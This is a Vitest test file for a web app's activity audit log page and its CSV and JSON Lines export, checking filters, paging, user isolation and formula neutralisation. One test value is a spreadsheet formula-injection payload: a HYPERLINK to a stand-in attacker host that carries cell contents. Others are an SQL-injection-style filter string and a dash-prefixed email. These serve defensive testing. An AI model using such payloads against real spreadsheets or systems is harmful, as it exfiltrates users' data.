import postgres from "postgres";
import { renderToStaticMarkup } from "react-dom/server";
import { afterAll, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { appendAuditEvent, type NewAuditEvent } from "@/db/queries/audit";
import { AUDIT_OUTCOMES } from "@/db/schema";
import { AUDIT_UNAVAILABLE_MESSAGE } from "@/lib/audit/record";
import { parseCsv, withFailingAuditWrites } from "@/lib/audit/test-support";
import type { CurrentUser } from "@/lib/auth/session";
import { startSandboxHarness, type SandboxHarness } from "@/sandbox/test-harness";
import { GET as exportRoute } from "../api/activity/export/route";
import ActivityPage from "./page";

// /activity and its export against the sandbox database. Events are appended through the audit write path with
// chosen times, as the document routes and the tool pipeline write them; only the cookie session is replaced.
const session = vi.hoisted(() => ({ user: null as CurrentUser | null }));
vi.mock("@/lib/auth/session", () => ({
  getAgentSession: async () => (session.user ? { user: session.user, refreshToken: undefined } : null),
  getCurrentUser: async () => session.user,
}));

const person = (id: string): CurrentUser => ({ sub: `auth0|activity-${id}`, name: id, email: `${id}@example.com`, picture: null, emailVerified: true });
const alice = person("alice");
const bob = person("bob");
const busy = person("busy");
const dana = person("dana");
const eve = person("eve");

const CHAT_ID = "0b6f7d7e-3c55-4b8e-9d0c-6a1f2b3c4d5e";
const HOSTILE_SUMMARY = '=HYPERLINK("https://evil.example/?q="&A1, "Rêsumé, \u201cquoted\u201d")\nsecond line';

let sandbox: SandboxHarness;
let sql: postgres.Sql;

async function write(userId: string, at: string, event: Partial<NewAuditEvent> & Pick<NewAuditEvent, "action" | "summary">) {
  await appendAuditEvent({
    id: crypto.randomUUID(),
    userId,
    occurredAt: new Date(at),
    agentId: "delegate-app",
    modelId: null,
    chatId: null,
    turnId: null,
    toolCallId: null,
    evidence: {},
    inputDigest: null,
    outcome: "done",
    durationMs: null,
    ...event,
  });
}

beforeAll(async () => {
  sandbox = await startSandboxHarness();
  sql = postgres(sandbox.databaseUrl, { max: 1, onnotice: () => {} });
  await write(alice.sub, "2026-03-01T10:00:00.000Z", { action: "document.upload", summary: 'Uploaded "Vacation policy.md"', evidence: { documentId: "d-1" } });
  // As lib/ai/tools/pipeline.ts writes them: the tool's name and the decision's authorizer in flat evidence.
  await write(alice.sub, "2026-03-02T09:00:00.000Z", {
    action: "tool.authorization",
    summary: "Asked to buy 2 × Espresso beans (€18.50)",
    chatId: CHAT_ID,
    turnId: "turn-7",
    toolCallId: "call-1",
    modelId: "gpt-sandbox",
    evidence: { tool: "buy_product", authorizer: "async-approval", decision: "denied", bindingMessage: "Buy 2 × Espresso beans for €18.50?" },
    outcome: "denied",
  });
  await write(alice.sub, "2026-03-02T09:00:01.000Z", {
    action: "tool.result",
    summary: "Searched your documents",
    chatId: CHAT_ID,
    turnId: "turn-7",
    toolCallId: "call-2",
    evidence: { tool: "search_documents", fga: { questions: [{ call: "list-objects", relation: "can_view", allowedCount: 2, allowed: ["d-1", "d-2"] }] }, entered: { documents: ["d-1", "d-2"] } },
    durationMs: 42,
  });
  await write(alice.sub, "2026-03-03T23:30:00.000Z", {
    action: "document.share",
    summary: HOSTILE_SUMMARY,
    evidence: { fga: { relation: "can_share", object: "doc:d-1", allowed: true }, target: { type: "email", email: "-bob@example.com" } },
  });
  await write(bob.sub, "2026-03-02T12:00:00.000Z", { action: "document.upload", summary: "Bob's secret plans", evidence: { documentId: "d-bob" } });
  // More than one export page (500 rows) and more than one screen page (50), all at the same instant, so the
  // keyset's tie-breaker on `sequence` is what keeps pages apart.
  for (let i = 0; i < 520; i++) await write(busy.sub, "2026-04-01T08:00:00.000Z", { action: "document.download", summary: `Download ${i}` });
}, 120_000);

afterAll(async () => {
  await sql?.end();
  await sandbox?.close();
});

beforeEach(() => {
  session.user = alice;
});

const text = (html: string) => html.replace(/<[^>]+>/g, " ").replace(/&quot;/g, '"').replace(/&amp;/g, "&").replace(/&#x27;/g, "'").replace(/\s+/g, " ");
/** The (value, label) of each option of the filter form's field `name`. */
function options(html: string, name: string): Array<[string, string]> {
  const select = new RegExp(`<select[^>]*name="${name}"[^>]*>(.*?)</select>`, "s").exec(html);
  if (!select) throw new Error(`no ${name} filter`);
  return [...select[1]!.matchAll(/<option value="([^"]*)"[^>]*>([^<]*)<\/option>/g)].map((match) => [match[1]!, text(match[2]!).trim()]);
}
const renderPage = async (searchParams: Record<string, string> = {}) => renderToStaticMarkup(await ActivityPage({ searchParams: Promise.resolve(searchParams) }));
const exportOf = (query: string) => exportRoute(new Request(`http://localhost:3000/api/activity/export?${query}`));
const jsonLines = async (response: Response) =>
  (await response.text())
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Record<string, unknown>);

describe("/activity", () => {
  it("shows the user's events newest first, a chat turn grouped with a link to its message, and evidence as a definition list", async () => {
    const html = await renderPage();
    const page = text(html);
    expect(page.indexOf("Rêsumé")).toBeLessThan(page.indexOf("Searched your documents"));
    expect(page.indexOf("Searched your documents")).toBeLessThan(page.indexOf("Asked to buy"));
    expect(page.indexOf("Asked to buy")).toBeLessThan(page.indexOf('Uploaded "Vacation policy.md"'));
    expect(html.match(/aria-label="Chat turn"/g)).toHaveLength(1);
    // The turn id is the id of the user message that started the turn; the chat renders it as message-<id>.
    expect(html.match(/href="\/chat\/[^"]*"/g)).toEqual([`href="/chat/${CHAT_ID}#message-turn-7"`]);
    expect(page).toContain("Open message in chat");
    expect(html).toContain('<dl aria-label="Evidence"');
    expect(page).toContain("fga › relation can_share");
    expect(page).toContain("binding message Buy 2 × Espresso beans for €18.50?");
    expect(page).toContain("entered › documents d-1, d-2");
    expect(page).toContain("tool call id call-1");
    expect(page).toContain("42 ms");
    expect(page).not.toContain("Bob's secret plans");
  });

  it("offers only the user's own tools (by title), event types and decision kinds as filters", async () => {
    const html = await renderPage();
    expect(options(html, "tool")).toEqual([
      ["", "Any"],
      ["buy_product", "Buy products"],
      ["search_documents", "Search your documents"],
    ]);
    expect(options(html, "action")).toEqual([
      ["", "Any"],
      ["document.share", "Document shared"],
      ["document.upload", "Document uploaded"],
      ["tool.authorization", "Tool call decision"],
      ["tool.result", "Tool call result"],
    ]);
    // Who decided, never any other object the evidence holds (a share's target, the ids that entered the context).
    expect(options(html, "decision")).toEqual([
      ["", "Any"],
      ["async-approval", "Authenticator approval (CIBA)"],
      ["fga", "Permission check (FGA)"],
    ]);
    session.user = bob;
    const bobs = await renderPage();
    expect(options(bobs, "tool")).toEqual([["", "Any"]]);
    // Filtered by a tool none of his events name, the form still says so rather than "Any".
    const filtered = await renderPage({ tool: "buy_product", decision: "token-vault" });
    expect(options(filtered, "tool")).toEqual([["", "Any"], ["buy_product", "Buy products"]]);
    expect(filtered).toMatch(/<option value="buy_product" selected="">/);
    expect(filtered).toMatch(/<option value="token-vault" selected="">/);
    expect(bobs).not.toContain("buy_product");
    expect(text(bobs)).not.toMatch(/Espresso|Vacation|Rêsumé/);
    expect(text(bobs)).toContain("Bob's secret plans");
  });

  it("offers and filters the decisions the tool pipeline records, by their authorizer", async () => {
    // As lib/ai/tools/pipeline.ts writes a decision: flat evidence naming its authorizer.
    const decision = (authorizer: string, summary: string) => ({
      action: "tool.authorization",
      summary,
      chatId: CHAT_ID,
      turnId: "turn-1",
      toolCallId: `call-${authorizer}`,
      evidence: { tool: "get_calendar_events", authorizer, decision: "granted", connection: "google-oauth2", scopes: ["calendar"] },
    });
    await write(dana.sub, "2026-05-01T08:00:00.000Z", decision("token-vault", "Token Vault granted Google"));
    await write(dana.sub, "2026-05-01T08:00:01.000Z", decision("in-chat-approval", "Approved in the chat"));
    session.user = dana;
    const html = await renderPage();
    expect(html).toContain('<option value="token-vault">Token Vault exchange</option>');
    expect(html).toContain('<option value="in-chat-approval">In-chat approval</option>');
    expect(html).not.toContain('<option value="scopes">');
    const byAuthorizer = text(await renderPage({ decision: "token-vault" }));
    expect(byAuthorizer).toContain("Token Vault granted Google");
    expect(byAuthorizer).not.toContain("Approved in the chat");
  });

  it("filters by tool: only the events of that tool's calls", async () => {
    const purchases = text(await renderPage({ tool: "buy_product" }));
    expect(purchases).toContain("Asked to buy");
    expect(purchases).not.toMatch(/Searched your documents|Rêsumé|Vacation/);
    const searches = text(await renderPage({ tool: "search_documents" }));
    expect(searches).toContain("Searched your documents");
    expect(searches).not.toContain("Asked to buy");
    // A tool this version no longer declares is offered by its name spelled out, and still filters.
    await write(dana.sub, "2026-05-02T08:00:00.000Z", { action: "tool.call", summary: "Faxed (the old way)", evidence: { tool: "send_fax" } });
    session.user = dana;
    expect(options(await renderPage(), "tool")).toContainEqual(["send_fax", "Send fax"]);
    expect(text(await renderPage({ tool: "send_fax" }))).toContain("Faxed (the old way)");
    expect(text(await renderPage({ tool: "send_fax" }))).not.toContain("Token Vault granted Google");
  });

  it("filters by event type, decision, outcome and dates in the user's time zone", async () => {
    expect(text(await renderPage({ action: "tool.result" }))).not.toContain("Asked to buy");
    const byDecision = text(await renderPage({ decision: "async-approval" }));
    expect(byDecision).toContain("Asked to buy");
    expect(byDecision).not.toMatch(/Rêsumé|Vacation/);
    const denied = text(await renderPage({ outcome: "denied" }));
    expect(denied).toContain("Asked to buy");
    expect(denied).not.toContain("Searched your documents");
    // 23:30 UTC on 3 March is already 4 March in Berlin, and still 3 March in New York.
    expect(text(await renderPage({ from: "2026-03-04", to: "2026-03-04", tz: "Europe/Berlin" }))).toContain("Rêsumé");
    const newYork = text(await renderPage({ from: "2026-03-03", to: "2026-03-03", tz: "America/New_York" }));
    expect(newYork).toContain("Rêsumé");
    expect(newYork).not.toContain("Asked to buy");
  });

  it("says what is wrong with a filter instead of failing", async () => {
    const html = await renderPage({ outcome: "exploded", tool: "buy product; drop table", from: "2026-02-30", tz: "Mars/Olympus", after: "garbage" });
    expect(html).toContain('role="alert"');
    const page = text(html);
    expect(page).toContain(`The outcome must be one of ${AUDIT_OUTCOMES.join(", ")}.`);
    expect(page).toContain("The start date must be a date such as 2026-01-31.");
    expect(page).toContain("The tool filter is not a valid tool name.");
    expect(page).toContain('Unknown time zone "Mars/Olympus"');
    expect(page).toContain("The page link is not valid");
  });

  it("pages by keyset: every event exactly once across the pages, even when all share one instant", async () => {
    session.user = busy;
    const seen: string[] = [];
    let query: Record<string, string> = {};
    for (let pages = 0; pages < 20; pages++) {
      const html = await renderPage(query);
      seen.push(...[...text(html).matchAll(/Download (\d+)/g)].map((match) => match[1]!));
      const older = /href="\/activity\?([^"]*)"[^>]*>Older</.exec(html);
      if (!older) break;
      query = Object.fromEntries(new URLSearchParams(older[1]!.replace(/&amp;/g, "&")));
    }
    expect(seen).toHaveLength(520);
    expect(new Set(seen).size).toBe(520);
    expect(seen[0]).toBe("519");
  });
});

describe("activity export", () => {
  it("streams JSON Lines of the user's own events only, with a safe attachment name", async () => {
    const response = await exportOf("format=jsonl");
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("application/jsonl; charset=utf-8");
    expect(response.headers.get("content-disposition")).toMatch(/^attachment; filename="delegate-activity-\d{4}-\d{2}-\d{2}\.jsonl"$/);
    const events = await jsonLines(response);
    expect(events.map((event) => event.action)).toEqual(["document.share", "tool.result", "tool.authorization", "document.upload"]);
    expect(events[2]).toMatchObject({ chat_id: CHAT_ID, turn_id: "turn-7", tool_call_id: "call-1", outcome: "denied", evidence: { tool: "buy_product", decision: "denied" } });
    expect(events[0]!.summary).toBe(HOSTILE_SUMMARY);
    expect(JSON.stringify(events)).not.toContain("Bob's secret plans");
  });

  it("ignores any user named in the query: the session decides whose events", async () => {
    const events = await jsonLines(await exportOf(`format=jsonl&user=${encodeURIComponent(bob.sub)}&userId=${encodeURIComponent(bob.sub)}`));
    expect(events.every((event) => !String(event.summary).includes("Bob"))).toBe(true);
  });

  it("writes CSV that a spreadsheet reads back exactly, with formulas neutralised", async () => {
    const response = await exportOf("format=csv");
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8; header=present");
    expect(response.headers.get("content-disposition")).toMatch(/filename="delegate-activity-\d{4}-\d{2}-\d{2}\.csv"$/);
    // Response.text() would drop the byte-order mark; a spreadsheet sees it.
    const body = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await response.arrayBuffer());
    expect(body.startsWith("\uFEFF")).toBe(true);
    const [header, ...all] = parseCsv(body.slice(1));
    const column = (name: string) => header!.indexOf(name);
    // The exports above were recorded; this file holds them and the four events before them.
    const rows = all.filter((row) => row[column("action")] !== "activity.export");
    expect(all.length - rows.length).toBe(2);
    expect(rows).toHaveLength(4);
    const share = rows[0]!;
    // The summary keeps its comma, quotes, line break and non-ASCII text, behind the ' that stops a formula.
    expect(share[column("summary")]).toBe(`'${HOSTILE_SUMMARY}`);
    expect(JSON.parse(share[column("evidence")]!)).toMatchObject({ target: { email: "-bob@example.com" }, fga: { relation: "can_share" } });
    expect(rows[1]![column("duration_ms")]).toBe("42");
    expect(rows.map((row) => row[column("action")])).toEqual(["document.share", "tool.result", "tool.authorization", "document.upload"]);
    expect(body).not.toContain("Bob's secret plans");
  });

  it("applies the page's filters to the export", async () => {
    const events = await jsonLines(await exportOf("format=jsonl&outcome=denied"));
    expect(events.map((event) => event.action)).toEqual(["tool.authorization"]);
    const purchases = await jsonLines(await exportOf("format=jsonl&tool=buy_product"));
    expect(purchases.map((event) => [event.summary, (event.evidence as { tool: string }).tool])).toEqual([["Asked to buy 2 × Espresso beans (€18.50)", "buy_product"]]);
    const berlin = await jsonLines(await exportOf("format=jsonl&from=2026-03-04&to=2026-03-04&tz=Europe%2FBerlin"));
    expect(berlin.map((event) => event.action)).toEqual(["document.share"]);
  });

  it("exports the whole history across database pages, each event once, newest first", async () => {
    session.user = busy;
    const events = await jsonLines(await exportOf("format=jsonl"));
    expect(events).toHaveLength(520);
    expect(events.map((event) => event.sequence)).toEqual(Array.from({ length: 520 }, (_, i) => 520 - i));
  });

  it("is itself recorded, with who, the format and the filters, before the file starts: the file holds what came before", async () => {
    session.user = eve;
    await write(eve.sub, "2026-06-01T08:00:00.000Z", { action: "document.download", summary: 'Downloaded "Plan.md"' });
    const filtered = await jsonLines(await exportOf("format=jsonl&outcome=done&from=2026-01-01&tz=Europe%2FBerlin"));
    expect(filtered.map((event) => event.action)).toEqual(["document.download"]);
    const [recorded, ...before] = await jsonLines(await exportOf("format=jsonl"));
    expect(recorded).toMatchObject({ action: "activity.export", outcome: "done", summary: "Exported activity as JSON Lines", evidence: { format: "jsonl", filters: { outcome: "done", from: "2026-01-01", tz: "Europe/Berlin" } } });
    expect(before.map((event) => event.action)).toEqual(["document.download"]);
    const [row] = await sql`select user_id, agent_id from audit_events where id = ${recorded!.id as string}`;
    expect(row).toEqual({ user_id: eve.sub, agent_id: "delegate-app" });

    const html = await renderPage();
    expect(text(html)).toContain("Exported activity as JSON Lines");
    expect(html).toContain('<option value="activity.export">Activity exported</option>');
    expect(text(await renderPage({ action: "activity.export" }))).not.toContain("Plan.md");
  });

  it("is refused when it cannot be recorded, and the user is told", async () => {
    session.user = eve;
    await withFailingAuditWrites(sql, async () => {
      const refused = await exportOf("format=csv");
      expect(refused.status).toBe(503);
      expect(await refused.json()).toEqual({ error: { code: "unavailable", message: AUDIT_UNAVAILABLE_MESSAGE } });
    });
  });

  it("refuses a missing format, a bad filter and a signed-out caller", async () => {
    expect((await exportOf("format=xlsx")).status).toBe(400);
    expect((await exportOf("")).status).toBe(400);
    const bad = await exportOf("format=csv&outcome=exploded");
    expect(bad.status).toBe(400);
    expect(await bad.json()).toEqual({ error: { code: "bad_request", message: `The outcome must be one of ${AUDIT_OUTCOMES.join(", ")}.` } });
    session.user = null;
    expect((await exportOf("format=jsonl")).status).toBe(401);
  });
});
